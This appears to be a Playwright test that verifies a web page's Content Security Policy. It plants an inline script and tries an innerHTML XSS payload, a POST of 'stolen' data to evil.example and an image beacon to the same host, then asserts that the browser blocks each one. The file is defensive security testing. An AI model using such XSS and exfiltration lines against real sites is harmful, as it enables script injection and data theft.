import { expect, test } from '../browser/test.ts';

test.use({ expectedNoise: [/Content Security Policy|TrustedHTML|violates|evil\.example/] });

test('the browser refuses an inline script, markup from a script, and requests to other sites', async ({
  page,
}) => {
  await page.route('/deployment', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(
      '</body>',
      '<script>window.planted = 1</script></body>',
    );
    await route.fulfill({ response, body });
  });
  const refused: string[] = [];
  await page.exposeFunction('refuse', (directive: string) => refused.push(directive));
  await page.addInitScript(() => {
    const { refuse } = window as unknown as { refuse(directive: string): void };
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      refuse(effectiveDirective),
    );
  });
  await page.goto('/deployment');
  const attacks: (() => unknown)[] = [
    () => {
      document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
    },
    () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }),
    () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }).src,
  ];
  for (const attack of attacks) {
    await page.evaluate(attack).catch(() => undefined);
  }
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const directives = ['connect-src', 'img-src', 'require-trusted-types-for', 'script-src-elem'];
  await expect.poll(() => [...new Set(refused)].sort()).toEqual(directives);
  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
});
